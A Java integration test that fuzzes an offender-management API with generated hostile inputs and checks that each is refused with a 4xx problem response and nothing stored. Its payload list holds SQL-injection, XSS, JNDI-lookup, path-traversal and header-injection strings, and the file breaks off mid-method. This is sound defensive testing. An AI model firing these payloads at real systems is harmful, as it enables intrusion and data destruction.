package uk.ppo.system;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.restassured.RestAssured;
import io.restassured.config.EncoderConfig;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import uk.ppo.suite.Suite;

import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.HashMap;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Supplier;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile input against every operation of the merged API document that takes a body or parameters,
 * through the gateway with a real token of a role the access matrix allows (so the input is checked,
 * not the role). The bad inputs are driven by the document's schemas (each property's type, format,
 * enum, maxLength, minimum, required) and their values are drawn from seeded random generators ({@link Gen}): wrong JSON types,
 * missing required fields, strings beyond maxLength or over 1 MB, JSON nested 10,000 deep, invalid
 * UTF-8, SQL and script injection in strings, query and path parameters, negative and enormous numbers,
 * impossible and future dates, unknown enum values, malformed JSON, the wrong media type.
 * <p>
 * Every answer must be a 4xx {@code application/problem+json} (never a 5xx), a wrong type must be named
 * in the problem, and nothing may be stored: the owning service's tables (its audit log aside) hold as
 * many rows after an operation's bad inputs as before. Bounded: {@code ppo.hostile.tries} inputs per
 * operation (16, at most four of a kind); {@code ppo.hostile.seed} picks another run (the default seed is fixed, so a build
 * is repeatable; every run prints its seed).
 * <p>
 * Found by this test and fixed in common: a NUL character in a free-text parameter was a 500 wherever it
 * reached PostgreSQL (now refused as a 400 naming the parameter; tried on every free-text parameter of
 * every GET); rubbish after a complete JSON document was ignored and the document stored (now a 400).
 * Still open and left out of the generator: an overlong UTF-8 sequence (0xC0 0xAF) is read by Jackson as
 * '/' and stored.
 */
@ExtendWith(RunningSuite.class)
class HostileInputIT {

    static final int TRIES = Integer.getInteger("ppo.hostile.tries", 16);
    static final long SEED = Long.getLong("ppo.hostile.seed", 20_261_202L);
    private final Random random = new Random(SEED);
    static final int ONE_MB_AND_MORE = 1_100_000;

    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE person; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)--", "' UNION SELECT username, roles FROM audit_record --",
            "admin'--", "%' OR 1=1 --", "%", "_", "\\", "'", "\u0000", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://example.invalid/a}", "../../../../etc/passwd", "\r\nSet-Cookie: a=b");

    /** What a bad input is: its kind, the field it aims at (null: none) and how it is sent. */
    record BadInput(String kind, String field, boolean fieldMustBeNamed, boolean mayBeAccepted,
                    Map<String, String> path, Map<String, String> query, String contentType, byte[] body) {
    }

    enum Kind {
        WRONG_TYPE, MISSING_REQUIRED, HUGE_STRING, INJECTION, NUMBER, BAD_DATE, BAD_FORMAT, UNKNOWN_ENUM, NESTED, MALFORMED,
        INVALID_UTF8, WRONG_MEDIA_TYPE, QUERY_WRONG_TYPE, QUERY_INJECTION, QUERY_NUMBER, PATH_BAD, GARBAGE_BODY
    }

    private final ObjectMapper json = new ObjectMapper();
    private JsonNode document;
    private String person;
    private final Map<String, String> ids = new HashMap<>();
    private final Map<String, String> tokens = new LinkedHashMap<>();

    @Test
    void everyOperationRefusesGeneratedBadInputWithAProblemAndStoresNothing() throws Exception {
        document = ApiDocument.merged();
        tokens.putAll(ApiDocument.tokensByRole());
        tokens.put("partner-system-2", RunningSuite.clientToken("probation-system", "probation-system-local-secret"));
        // the scoring feed is scoring-service's alone: its own client is the one principal allowed to call it
        tokens.put("scoring-feed", RunningSuite.clientToken("scoring-service", "scoring-service-local-secret"));
        // and the agenda facts action-plan-service's
        tokens.put("conference-feed", RunningSuite.clientToken("action-plan-service", "action-plan-service-local-secret"));
        // the indicator feed is action-plan-service's too (NI 30 cohort reports, police.uk counts)
        tokens.put("indicator-feed", RunningSuite.clientToken("action-plan-service", "action-plan-service-local-secret"));
        Map<String, ApiDocument.Entry> matrix = new HashMap<>();
        ApiDocument.matrix().forEach(e -> matrix.put(e.method() + " " + e.path(), e));
        person = freshPerson();
        awaitNoScoreRunInProgress();

        int operations = 0;
        int inputs = 0;
        int serverErrors = 0;
        int typeErrors = 0;
        int typeErrorsNamed = 0;
        int perRecordRejections = 0;
        int otherFieldProblems = 0;
        int otherFieldProblemsNamed = 0;
        List<String> nulFindings = new ArrayList<>();
        Map<Kind, Integer> perKind = new EnumMap<>(Kind.class);
        List<String> wrong = new ArrayList<>();
        try (Tables tables = new Tables()) {
            for (ApiDocument.Operation op : ApiDocument.operations(document)) {
                if (op.bodyType() == null && !op.node().has("parameters")) {
                    continue;
                }
                ApiDocument.Entry entry = matrix.get(op.key());
                assertTrue(entry != null, op.key() + " has no line in access-matrix.csv");
                List<BadInput> bad = badInputs(op);
                if (bad.isEmpty()) {
                    continue;
                }
                operations++;
                Suite.Service owner = owner(op.path());
                boolean writes = !op.method().equals("GET");
                Map<String, Long> before = writes ? tables.count(owner) : Map.of();
                int round = 0;
                for (BadInput input : bad) {
                    Response response = send(op, entry, input, round++);
                    inputs++;
                    perKind.merge(Kind.valueOf(input.kind()), 1, Integer::sum);
                    int status = response.statusCode();
                    String where = op.key() + " " + input.kind() + (input.field() == null ? "" : " " + input.field());
                    if (status >= 500) {
                        serverErrors++;
                    }
                    String contentType = response.contentType() == null ? "" : response.contentType();
                    boolean refused = status >= 400 && status < 500 && status != 401 && status != 403;
                    if (status == 200 && everyRecordRejected(response)) {
                        // the bulk offence push answers per record (documented): each bad record rejected, naming why
                        perRecordRejections++;
                        if (input.fieldMustBeNamed() && !response.asString().contains(input.field())) {
                            wrong.add(where + ": the rejected record's errors do not name " + input.field() + ": " + truncate(response.asString()));
                        }
                        continue;
                    }
                    if (!(refused || (input.mayBeAccepted() && status >= 200 && status < 300))) {
                        wrong.add(where + ": " + status + " " + truncate(response.asString()));
                        continue;
                    }
                    if (refused && !contentType.startsWith("application/problem+json")) {
                        wrong.add(where + ": " + status + " as " + contentType);
                        continue;
                    }
                    if (refused && leaks(response.asString())) {
                        wrong.add(where + ": the problem shows internals: " + truncate(response.asString()));
                    }
                    if (input.kind().equals(Kind.WRONG_TYPE.name())) {
                        typeErrors++;
                    }
                    if (refused && !input.fieldMustBeNamed() && input.field() != null && input.body() != null
                            && Set.of("MISSING_REQUIRED", "HUGE_STRING", "BAD_FORMAT", "INJECTION").contains(input.kind())) {
                        otherFieldProblems++;
                        if (names(response, input.field())) {
                            otherFieldProblemsNamed++;
                        }
                    }
                    if (refused && input.fieldMustBeNamed()) {
                        if (names(response, input.field())) {
                            if (input.kind().equals(Kind.WRONG_TYPE.name())) {
                                typeErrorsNamed++;
                            }
                        } else {
                            wrong.add(where + ": " + status + " does not name " + input.field() + ": " + truncate(response.asString()));
                        }
                    }
                    boolean quoted = input.query().values().stream().anyMatch(v -> v.contains("'") || v.contains("\""));
                    if (!refused && quoted && response.asString().contains("\"total\"")) {
                        // a quote that breaks out of a query would widen the search; wildcards a service strips (%, _) may match all
                        Number total = response.path("total");
                        if (total != null && total.longValue() != 0) {
                            wrong.add(where + ": an injected search matched " + total + " records");
                        }
                    }
                }
                if (op.method().equals("GET")) {
                    nulFindings.addAll(nulProbe(op, entry));
                }
                if (writes) {
                    Map<String, Long> after = tables.count(owner);
                    if (!after.equals(before)) {
                        wrong.add(op.key() + ": bad input stored something: " + changed(before, after));
                    }
                }
            }
        }
        System.out.printf("HOSTILE INPUT %d operations, %d inputs tried (seed %d, %d per operation), %d 5xx, %d wrong;"
                        + " wrong JSON types named in the problem: %d of %d; other field problems named: %d of %d (the rest refused for"
                        + " another field, a stale If-Match or an unknown id first); bulk records rejected one by one: %d; per kind %s%n",
                operations, inputs, SEED, TRIES, serverErrors, wrong.size(), typeErrorsNamed, typeErrors, otherFieldProblemsNamed,
                otherFieldProblems, perRecordRejections, perKind);
        wrong.forEach(w -> System.out.println("HOSTILE INPUT wrong: " + w));
        System.out.printf("HOSTILE INPUT a NUL character in a free-text parameter was not a 400 problem on %d of the GET operations: %s%n",
                nulFindings.size(), nulFindings);
        assertEquals(0, serverErrors, "answers with a 5xx");
        assertEquals(List.of(), wrong);
        assertEquals(List.of(), nulFindings, "NUL in a free-text parameter");
        assertTrue(operations > 60 && inputs > operations * 5, "the walk covered the API");
    }

    // ---------------------------------------------------------------- generating bad inputs

    /** Up to TRIES bad inputs for one operation: every applicable kind in turn, shuffled, values drawn at random. */
    private List<BadInput> badInputs(ApiDocument.Operation op) {
        Map<Kind, Gen<BadInput>> kinds = new EnumMap<>(Kind.class);
        String bodyType = op.bodyType();
        Map<String, String> path = basePath(op);
        Map<String, String> query = baseQuery(op);
        if (bodyType != null && bodyType.contains("json")) {
            jsonBodyKinds(op, path, query, kinds);
        } else if (bodyType != null) {
            kinds.put(Kind.GARBAGE_BODY, garbage().map(bytes -> new BadInput(Kind.GARBAGE_BODY.name(), null, false, false, path, query, bodyType, bytes)));
            kinds.put(Kind.INVALID_UTF8, invalidUtf8("code,name\nX,", "\n").map(bytes ->
                    new BadInput(Kind.INVALID_UTF8.name(), null, false, false, path, query, bodyType, bytes)));
        }
        for (JsonNode parameter : op.parameters("query")) {
            queryKinds(op, parameter, path, query, kinds);
        }
        for (JsonNode parameter : op.parameters("path")) {
            String name = parameter.path("name").asText();
            boolean freeText = freeText(schemaOf(parameter));
            byte[] body = bodyType == null ? null : bodyType.contains("json") ? unknownField(plausibleBody(op)) : new byte[]{'x'};
            Gen<String> values = Gen.either(parameterInjection(), Gen.text().alpha().minLength(1).maxLength(40),
                    Gen.text().withRange('0', '9').length(36), Gen.constant("x".repeat(1_000)));
            kinds.merge(Kind.PATH_BAD, values.map(v -> {
                Map<String, String> p = new LinkedHashMap<>(path);
                p.put(name, v);
                return new BadInput(Kind.PATH_BAD.name(), name, false, false, p, query, bodyType, body);
            }), (a, b) -> Gen.either(a, b));
            if (freeText && bodyType == null && op.method().equals("GET")) {
                // a free-text key ({code}, {reference}) may simply find nothing
                kinds.put(Kind.PATH_BAD, kinds.get(Kind.PATH_BAD).map(i -> new BadInput(i.kind(), i.field(), false, true, i.path(), i.query(), i.contentType(), i.body())));
            }
        }
        if (kinds.isEmpty()) {
            return List.of();
        }
        List<Kind> order = Gen.shuffled(new ArrayList<>(kinds.keySet())).next(random);
        List<BadInput> inputs = new ArrayList<>();
        // at most four of a kind: an operation with one kind of input (an id in its path) gets four, not TRIES
        for (int i = 0; inputs.size() < Math.min(TRIES, 4 * order.size()); i++) {
            inputs.add(kinds.get(order.get(i % order.size())).next(random));
        }
        return inputs;
    }

    private void jsonBodyKinds(ApiDocument.Operation op, Map<String, String> path, Map<String, String> query, Map<Kind, Gen<BadInput>> kinds) {
        String type = op.bodyType();
        JsonNode schema = ApiDocument.resolve(document, op.bodySchema());
        boolean list = "array".equals(typeOf(schema));
        JsonNode object = list ? ApiDocument.resolve(document, schema.path("items")) : schema;
        Supplier<JsonNode> base = () -> plausibleBody(op);
        Map<String, JsonNode> properties = properties(object);
        Set<String> required = new java.util.HashSet<>();
        object.path("required").forEach(r -> required.add(r.asText()));

        List<Gen<BadInput>> wrongTypes = new ArrayList<>();
        List<Gen<BadInput>> missing = new ArrayList<>();
        List<Gen<BadInput>> huge = new ArrayList<>();
        List<Gen<BadInput>> injections = new ArrayList<>();
        List<Gen<BadInput>> numbers = new ArrayList<>();
        List<Gen<BadInput>> dates = new ArrayList<>();
        List<Gen<BadInput>> formats = new ArrayList<>();
        List<Gen<BadInput>> enums = new ArrayList<>();
        for (var property : properties.entrySet()) {
            String name = property.getKey();
            JsonNode p = property.getValue();
            wrongTypes.add(wrongType(p).map(v -> body(Kind.WRONG_TYPE, name, true, path, query, type, set(base.get(), list, name, v))));
            if (required.contains(name)) {
                missing.add(Gen.constant(name).map(n -> body(Kind.MISSING_REQUIRED, n, false, path, query, type, remove(base.get(), list, n))));
            }
            String t = typeOf(p);
            String format = p.path("format").asText("");
            if ("string".equals(t)) {
                if (p.has("maxLength")) {
                    int max = p.get("maxLength").asInt();
                    huge.add(Gen.ints(1, 5_000).map(extra ->
                            body(Kind.HUGE_STRING, name, false, path, query, type, set(base.get(), list, name, "x".repeat(max + extra)))));
                } else if (format.isEmpty() && !p.has("enum")) {
                    huge.add(Gen.ints(0, 100_000).map(extra ->
                            body(Kind.HUGE_STRING, name, false, path, query, type, set(base.get(), list, name, "x".repeat(ONE_MB_AND_MORE + extra)))));
                }
                injections.add(injection().map(v -> {
                    JsonNode b = set(base.get(), list, name, v);
                    boolean free = freeText(p) || allowedByPattern(p, v);
                    if (free) {
                        // a name may hold any text; what must fail is the unknown field carrying the same string
                        ((ObjectNode) target(b, list)).put(v.isEmpty() ? "x" : v, v);
                    }
                    return body(Kind.INJECTION, name, false, path, query, type, b);
                }));
                if (format.equals("date") || format.equals("date-time")) {
                    boolean pastOnly = name.equals("dateOfBirth") || p.path("description").asText("").matches("(?is).*(not in the future|in the past).*");
                    Gen<String> bad = format.equals("date") ? badDate(pastOnly) : badDate(false).map(d -> d + "T25:61:00Z");
                    dates.add(bad.map(v -> body(Kind.BAD_DATE, name, !isDate(v), path, query, type, set(base.get(), list, name, v))));
                } else if (!format.isEmpty() || (p.has("pattern") && !freeText(p))) {
                    formats.add(Gen.either(Gen.text().alpha().minLength(1).maxLength(30), injection(),
                                    Gen.text().minLength(1).maxLength(30))
                            .filter(v -> !p.has("pattern") || !allowedByPattern(p, v))
                            .map(v -> body(Kind.BAD_FORMAT, name, false, path, query, type, set(base.get(), list, name, v))));
                }
                if (p.has("enum")) {
                    Set<String> known = new java.util.HashSet<>();
                    p.get("enum").forEach(e -> known.add(e.asText()));
                    // a name it does not know, or a number (Jackson would otherwise read 1 as the second constant)
                    Gen<Object> unknown = Gen.either(Gen.text().withRange('A', 'Z').withChars('_').minLength(1).maxLength(24)
                            .filter(v -> !known.contains(v)), Gen.longs(0, known.size()));
                    enums.add(unknown.map(v -> body(Kind.UNKNOWN_ENUM, name, true, path, query, type, set(base.get(), list, name, v))));
                }
            } else if ("integer".equals(t) || "number".equals(t)) {
                Gen<Object> out = Gen.either(
                        Gen.bigIntegers(BigInteger.TWO.pow(64), BigInteger.TEN.pow(40)).map(v -> (Object) v),
                        Gen.bigIntegers(BigInteger.TEN.pow(40).negate(), BigInteger.TWO.pow(64).negate()).map(v -> (Object) v));
                if (p.has("minimum")) {
                    long min = p.get("minimum").asLong();
                    out = Gen.either(out, Gen.longs(1, 1_000_000).map(d -> (Object) BigInteger.valueOf(min).subtract(BigInteger.valueOf(d))));
                }
                if (p.has("maximum")) {
                    long max = p.get("maximum").asLong();
                    out = Gen.either(out, Gen.longs(1, 1_000_000).map(d -> (Object) BigInteger.valueOf(max).add(BigInteger.valueOf(d))));
                }
                if (!"number".equals(t) || p.has("minimum") || p.has("maximum")) {
                    numbers.add(out.map(v -> body(Kind.NUMBER, name, ((BigInteger) v).bitLength() > 63, path, query, type,
                            set(base.get(), list, name, v))));
                }
            }
        }
        put(kinds, Kind.WRONG_TYPE, wrongTypes);
        put(kinds, Kind.MISSING_REQUIRED, missing);
        put(kinds, Kind.HUGE_STRING, huge);
        put(kinds, Kind.INJECTION, injections);
        put(kinds, Kind.NUMBER, numbers);
        put(kinds, Kind.BAD_DATE, dates);
        put(kinds, Kind.BAD_FORMAT, formats);
        put(kinds, Kind.UNKNOWN_ENUM, enums);
        kinds.put(Kind.NESTED, Gen.ints(10_000, 12_000).map(depth -> {
            String nested = "[".repeat(depth) + "]".repeat(depth);
            byte[] bytes = (properties.isEmpty() ? nested : "{\"" + properties.keySet().iterator().next() + "\":" + nested + "}")
                    .getBytes(StandardCharsets.UTF_8);
            return new BadInput(Kind.NESTED.name(), null, false, false, path, query, type, list ? wrap(bytes) : bytes);
        }));
        kinds.put(Kind.MALFORMED, malformed(bytes(base.get())).map(bytes ->
                new BadInput(Kind.MALFORMED.name(), null, false, false, path, query, type, bytes)));
        String someString = properties.entrySet().stream().filter(e -> "string".equals(typeOf(e.getValue()))).map(Map.Entry::getKey)
                .findFirst().orElse(null);
        if (someString != null) {
            String text = new String(bytes(set(base.get(), list, someString, "@@@")), StandardCharsets.UTF_8);
            int at = text.indexOf("@@@");
            kinds.put(Kind.INVALID_UTF8, invalidUtf8(text.substring(0, at), text.substring(at + 3)).map(bytes ->
                    new BadInput(Kind.INVALID_UTF8.name(), someString, false, false, path, query, type, bytes)));
        }
        kinds.put(Kind.WRONG_MEDIA_TYPE, Gen.element("text/plain", "application/xml", "application/octet-stream")
                .map(media -> new BadInput(Kind.WRONG_MEDIA_TYPE.name(), null, false, false, path, query, media, bytes(base.get()))));
    }

    private void queryKinds(ApiDocument.Operation op, JsonNode parameter, Map<String, String> path, Map<String, String> query,
                            Map<Kind, Gen<BadInput>> kinds) {
        String name = parameter.path("name").asText();
        JsonNode schema = schemaOf(parameter);
        String t = typeOf(schema);
        String bodyType = op.bodyType();
        byte[] body = bodyType == null ? null : bodyType.contains("json") ? bytes(plausibleBody(op)) : new byte[]{'x'};
        java.util.function.BiFunction<Kind, String, BadInput> with = (kind, value) -> {
            Map<String, String> q = new LinkedHashMap<>(query);
            q.put(name, value);
            return new BadInput(kind.name(), name, false, false, path, q, bodyType, body);
        };
        if (freeText(schema)) {
            // any text is a valid name or reference; what must hold is no 5xx and no widened search
            kinds.merge(Kind.QUERY_INJECTION, Gen.either(parameterInjection(), Gen.constant("x".repeat(2_000))).map(v -> {
                BadInput i = with.apply(Kind.QUERY_INJECTION, v);
                return new BadInput(i.kind(), i.field(), false, true, i.path(), i.query(), i.contentType(), i.body());
            }), (a, b) -> Gen.either(a, b));
            return;
        }
        Gen<String> wrongValues = Gen.either(Gen.text().alpha().minLength(1).maxLength(20), parameterInjection(),
                Gen.element("null", "[]", "{}", "1e400", "2025-02-30", "2025-13-01", "0x1F"));
        if ("boolean".equals(t)) {
            return;   // JAX-RS reads anything but "true" as false: no value of a boolean parameter is wrong
        }
        if (schema.has("enum") || !"string".equals(t) || schema.has("format") || schema.has("pattern")) {
            kinds.merge(Kind.QUERY_WRONG_TYPE, wrongValues.map(v -> with.apply(Kind.QUERY_WRONG_TYPE, v)), (a, b) -> Gen.either(a, b));
        }
        if ("integer".equals(t) || "number".equals(t)) {
            List<Gen<String>> out = new ArrayList<>();
            out.add(Gen.bigIntegers(BigInteger.TWO.pow(64), BigInteger.TEN.pow(40)).map(BigInteger::toString));
            if (schema.has("minimum")) {
                long min = schema.get("minimum").asLong();
                out.add(Gen.longs(1, 1_000_000).map(d -> Long.toString(min - d)));
            }
            if (schema.has("maximum")) {
                long max = schema.get("maximum").asLong();
                out.add(Gen.longs(1, 1_000_000).map(d -> Long.toString(max + d)));
            }
            kinds.merge(Kind.QUERY_NUMBER, Gen.either(out).map(v -> with.apply(Kind.QUERY_NUMBER, v)), (a, b) -> Gen.either(a, b));
        }
    }

    private static void put(Map<Kind, Gen<BadInput>> kinds, Kind kind, List<Gen<BadInput>> choices) {
        if (!choices.isEmpty()) {
            kinds.put(kind, Gen.either(choices));
        }
    }

    private BadInput body(Kind kind, String field, boolean named, Map<String, String> path, Map<String, String> query, String type, JsonNode body) {
        return new BadInput(kind.name(), field, named, false, path, query, type, bytes(body));
    }

    /** A JSON value of a type the property does not have (and Jackson would not coerce). */
    private static Gen<Object> wrongType(JsonNode property) {
        String t = typeOf(property);
        JsonNodeFactory f = JsonNodeFactory.instance;
        Gen<Object> object = Gen.text().alpha().minLength(1).maxLength(8).map(k -> f.objectNode().put(k, k));
        Gen<Object> array = Gen.ints(1, 3).map(n -> {
            ArrayNode a = f.arrayNode();
            for (int i = 0; i < n; i++) {
                a.add(f.objectNode());
            }
            return a;
        });
        Gen<Object> word = Gen.text().alpha().minLength(1).maxLength(12).map(s -> "not-" + s);
        Gen<Object> bool = Gen.element(true, false).map(b -> b);
        Gen<Object> number = Gen.anyInt().map(i -> i);
        return switch (t) {
            case "string" -> Gen.either(object, array);
            case "integer", "number" -> Gen.either(word, object, array, bool);
            case "boolean" -> Gen.either(word, object, array);
            case "array" -> Gen.either(word, object, number, bool);
            default -> Gen.either(array, number, bool);
        };
    }

    private static Gen<String> injection() {
        return Gen.element(INJECTIONS).flatMap(attack -> Gen.text().alpha().maxLength(6).map(prefix -> prefix + attack));
    }

    /** Injection for query and path parameters (NUL included; {@link #nulProbe} also tries it on every free-text one). */
    private static Gen<String> parameterInjection() {
        return injection();
    }

    /** Impossible dates and other spellings of a date; future ones for a date that must be in the past. */
    private static Gen<String> badDate(boolean pastOnly) {
        Gen<String> impossible = Gen.either(
                Gen.ints(13, 99).map(m -> String.format("2025-%02d-01", m)),
                Gen.ints(32, 99).map(d -> String.format("2025-01-%02d", d)),
                // (a date and time for a date is read as its date by Jackson: lenient, not impossible, so not here)
                Gen.element("2025-02-30", "2023-02-29", "2025-04-31", "0000-00-00", "31/12/2025", "2025-1-1", "20250101", "tomorrow",
                        "+999999999-12-31x", "-2025-01-01x"));
        if (!pastOnly) {
            return impossible;
        }
        return Gen.either(impossible, Gen.ints(1, 20_000).map(d -> LocalDate.now().plusDays(d).toString()));
    }

    /** The body cut short, given trailing rubbish, unquoted or single-quoted keys. */
    private static Gen<byte[]> malformed(byte[] valid) {
        String text = new String(valid, StandardCharsets.UTF_8);
        return Gen.either(
                Gen.ints(1, Math.max(1, text.length() - 1)).map(cut -> text.substring(0, cut)),
                Gen.text().withChars("{[,:\"'x1").minLength(1).maxLength(40).map(rubbish -> rubbish + text),
                // rubbish after a complete document (found by this test when Jackson still ignored it)
                Gen.text().withChars("{[,:\"'x1").minLength(1).maxLength(40).map(rubbish -> text + " " + rubbish),
                Gen.constant(text.replace("\"", "'")),
                Gen.constant("{" + text.replace("{", "").replace("}", "").replace("[", "").replace("]", "")),
                Gen.text().alpha().minLength(1).maxLength(20))
                .filter(t -> !t.isBlank() && !t.equals(text) && !t.equals("{}"))
                .map(t -> t.getBytes(StandardCharsets.UTF_8));
    }

    /** Text with bytes that are not UTF-8: a lone continuation byte, a start byte with nothing after it, 0xFF. */
    private static Gen<byte[]> invalidUtf8(String before, String after) {
        return Gen.element(new byte[]{(byte) 0x80}, new byte[]{(byte) 0xC3, 0x28}, new byte[]{(byte) 0xFF}, new byte[]{(byte) 0xFE, (byte) 0xFF},
                        new byte[]{(byte) 0xE2, (byte) 0x28, (byte) 0xA1}, new byte[]{(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80})
                // Not here, and open: an overlong encoding (0xC0 0xAF) is read by Jackson as '/' and stored (found by this test).
                .flatMap(bad -> Gen.text().alpha().maxLength(8).map(word -> {
                    ByteArrayOutputStream out = new ByteArrayOutputStream();
                    out.writeBytes(before.getBytes(StandardCharsets.UTF_8));
                    out.writeBytes(word.getBytes(StandardCharsets.UTF_8));
                    out.writeBytes(bad);
                    out.writeBytes(after.getBytes(StandardCharsets.UTF_8));
                    return out.toByteArray();
                }));
    }

    /** Bytes that are no CSV, GeoJSON or plan: random, gzip's magic with nothing after it, a header with nothing known in it. */
    private static Gen<byte[]> garbage() {
        return Gen.either(
                Gen.bytes(1, 4_096),
                Gen.constant(new byte[]{0x1f, (byte) 0x8b, 0x08, 0x00}),
                Gen.element(INJECTIONS).map(attack -> ("\"" + attack + "\",x,y\n" + attack + ",1,2\n").getBytes(StandardCharsets.UTF_8)),
                Gen.ints(10_000, 12_000).map(depth -> ("[".repeat(depth) + "]".repeat(depth)).getBytes(StandardCharsets.UTF_8)));
    }

    // ---------------------------------------------------------------- plausible requests to mutate

    /** A body built from the schema (examples, first enum values, formats): as near to valid as the document says. */
    private JsonNode plausibleBody(ApiDocument.Operation op) {
        return plausible(op.bodySchema(), null, 0);
    }

    private JsonNode plausible(JsonNode schema, String name, int depth) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        JsonNode s = ApiDocument.resolve(document, schema);
        if (s == null || depth > 6) {
            return f.nullNode();
        }
        if (s.has("allOf")) {
            return plausible(s.get("allOf").get(0), name, depth + 1);
        }
        for (String choice : List.of("oneOf", "anyOf")) {
            if (s.has(choice)) {
                return plausible(s.get(choice).get(0), name, depth + 1);
            }
        }
        if (s.has("example") && !s.get("example").isNull()) {
            return s.get("example");
        }
        if (s.has("enum")) {
            return s.get("enum").get(0);
        }
        String t = typeOf(s);
        switch (t) {
            case "object": {
                ObjectNode object = f.objectNode();
                properties(s).forEach((property, p) -> object.set(property, plausible(p, property, depth + 1)));
                return object;
            }
            case "array": {
                ArrayNode array = f.arrayNode();
                array.add(plausible(s.path("items"), name, depth + 1));
                return array;
            }
            case "integer":
                return f.numberNode(s.has("minimum") ? Math.max(s.get("minimum").asLong(), 1) : 1);
            case "number":
                return f.numberNode(s.has("minimum") ? Math.max(s.get("minimum").asDouble(), 1.5) : 1.5);
            case "boolean":
                return f.booleanNode(false);
            default:
                return f.textNode(plausibleString(s, name));
        }
    }

    private String plausibleString(JsonNode s, String name) {
        String format = s.path("format").asText("");
        return switch (format) {
            case "date" -> "2025-06-02";
            case "date-time" -> "2025-06-02T10:15:00Z";
            case "uuid" -> name != null && (name.equals("offenderId") || name.equals("personId")) ? person
                    : name != null && name.equals("schemeId") ? PpoJourneyIT.HASTINGS : UUID.randomUUID().toString();
            default -> {
                if (name != null && name.toLowerCase().contains("pnc")) {
                    yield ConcurrencyAndCrashIT.freshPnc();
                }
                for (String candidate : List.of("Hostile input test", "HOSTILE", "hostile", "police", "Hostile-1", "H1", "AB12", "x")) {
                    if (!s.has("pattern") || allowedByPattern(s, candidate)) {
                        yield candidate;
                    }
                }
                yield "Hostile input test";
            }
        };
    }

    private Map<String, String> basePath(ApiDocument.Operation op) {
        Map<String, String> path = new LinkedHashMap<>();
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\{([^}]+)}").matcher(op.path());
        while (m.find()) {
            String name = m.group(1);
            String collection = ApiDocument.fill(op.path().substring(0, m.start() - 1), path::get);
            path.put(name, existingId(collection, name));
        }
        return path;
    }

    private Map<String, String> baseQuery(ApiDocument.Operation op) {
        Map<String, String> query = new LinkedHashMap<>();
        for (JsonNode parameter : op.parameters("query")) {
            if (parameter.path("required").asBoolean(false)) {
                String name = parameter.path("name").asText();
                query.put(name, plausible(schemaOf(parameter), name, 0).asText());
            }
        }
        return query;
    }

    /** A real id for a path parameter, so the bad input meets a record that exists: the first in its collection. */
    private String existingId(String collection, String name) {
        if (collection.startsWith("/api/v1/offenders") || name.equals("personId")) {
            return person;
        }
        return ids.computeIfAbsent(collection + " " + name, key -> {
            Response list = given().auth().oauth2(tokens.getOrDefault("admin", "none")).get(collection);
            if (list.statusCode() == 200 && (list.asString().startsWith("{") || list.asString().startsWith("["))) {
                try {
                    JsonNode items = json.readTree(list.asString());
                    JsonNode first = items.isArray() ? items.path(0) : items.path("items").path(0);
                    for (String field : List.of("id", "code", "reference", "partnershipCode")) {
                        if (first.hasNonNull(field)) {
                            return first.get(field).asText();
                        }
                    }
                } catch (Exception e) {
                    // not JSON: no id from here
                }
            }
            return UUID.randomUUID().toString();
        });
    }

    private String freshPerson() {
        return ConcurrencyAndCrashIT.person(tokens.get("admin"), ConcurrencyAndCrashIT.freshPnc());
    }

    /**
     * A NUL character in each free-text query or path parameter of a read: PostgreSQL cannot hold one in
     * text, so a service that passes it on to a query answers 500. Reported, not yet failed on: the fix
     * (refuse NUL as invalid input in one place) is open.
     */
    private List<String> nulProbe(ApiDocument.Operation op, ApiDocument.Entry entry) throws InterruptedException {
        List<String> found = new ArrayList<>();
        for (String in : List.of("query", "path")) {
            for (JsonNode parameter : op.parameters(in)) {
                if (!freeText(schemaOf(parameter))) {
                    continue;
                }
                String name = parameter.path("name").asText();
                Map<String, String> path = new LinkedHashMap<>(basePath(op));
                Map<String, String> query = new LinkedHashMap<>(baseQuery(op));
                (in.equals("path") ? path : query).put(name, "HOST\u0000ILE");
                Response response = send(op, entry, new BadInput("NUL", name, false, true, path, query, null, null), 0);
                if (response.statusCode() < 400 || response.statusCode() >= 500) {
                    found.add(op.key() + " " + name + " " + response.statusCode());
                }
            }
        }
        return found;
    }

    // ---------------------------------------------------------------- sending

    private Response send(ApiDocument.Operation op, ApiDocument.Entry entry, BadInput input, int round) throws InterruptedException {
        List<String> allowed = tokens.keySet().stream().filter(role -> entry.roles().contains(role.replace("-2", ""))).toList();
        String token = tokens.get(allowed.get(round % allowed.size()));
        StringBuilder uri = new StringBuilder(ApiDocument.fill(op.path(), name -> encode(input.path().get(name))));
        String separator = "?";
        for (var q : input.query().entrySet()) {
            uri.append(separator).append(encode(q.getKey())).append('=').append(encode(q.getValue()));
            separator = "&";
        }
        for (int attempt = 0; ; attempt++) {
            RequestSpecification request = given().config(RestAssured.config().encoderConfig(
                            EncoderConfig.encoderConfig().appendDefaultContentCharsetToContentTypeIfUndefined(false)))
                    .urlEncodingEnabled(false).auth().oauth2(token).header("If-Match", "\"2147483647\"");
            if (input.body() != null) {
                request = request.contentType(input.contentType()).body(input.body());
            }
            Response response = request.request(op.method(), uri.toString());
            if (response.statusCode() != 429 || attempt > 20) {
                return response;
            }
            String retryAfter = response.header("Retry-After");
